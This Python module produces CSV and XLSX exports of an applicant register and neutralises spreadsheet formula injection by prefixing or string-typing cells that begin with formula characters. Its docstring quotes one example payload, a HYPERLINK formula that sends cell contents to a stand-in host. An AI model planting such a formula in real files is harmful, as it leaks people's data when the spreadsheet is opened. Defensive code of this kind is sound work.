"""Spreadsheet exports (CSV and XLSX) whose text cells can never become formulas.

A cell starting with `= + - @`, a tab or a carriage return is read as a formula by spreadsheet
programs: an applicant named `=HYPERLINK("http://evil.test/?x="&A1,"x")` would send the
register's cells to another site when an officer opens the file. As OWASP advises
(CSV injection), such text is prefixed with an apostrophe in a CSV file; in an XLSX file every
text cell is typed as a string, with Excel's own "quote prefix" on those that start that way (the
text stays text when an officer edits the cell, and shows without the apostrophe).
"""

import csv
import datetime
import io
from collections.abc import Iterable
from decimal import Decimal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CSV_DATETIME = "%d/%m/%Y %H:%M"
XLSX_DATETIME = "dd/mm/yyyy hh:mm"


def is_formula_like(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def csv_cell(value) -> str | int | float:
    """A value for a CSV cell: numbers as they are, datetimes in Vietnamese order, text inert."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float | Decimal):
        return value
    if isinstance(value, datetime.datetime):
        return value.strftime(CSV_DATETIME)
    if isinstance(value, datetime.date):
        return value.strftime("%d/%m/%Y")
    text = str(value)
    return "'" + text if is_formula_like(text) else text


def csv_bytes(rows: Iterable[Iterable]) -> bytes:
    """The rows as UTF-8 CSV with a BOM (Excel reads UTF-8 only with it), every cell inert."""
    buffer = io.StringIO()
    csv.writer(buffer).writerows([csv_cell(value) for value in row] for row in rows)
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def xlsx_append(sheet, values: Iterable) -> None:
    """Append a row to an openpyxl worksheet: text typed as strings (never formulas), datetimes
    with the Vietnamese format."""
    from openpyxl.cell.cell import Cell

    row = []
    for value in values:
        cell = Cell(sheet)
        if isinstance(value, str):
            # Assigning a str that starts with "=" would type it as a formula: type it by hand.
            cell._value = value
            cell.data_type = "s"
            if is_formula_like(value):
                cell.quotePrefix = True
        else:
            cell.value = value
            if isinstance(value, datetime.datetime):
                cell.number_format = XLSX_DATETIME
        row.append(cell)
    sheet.append(row)
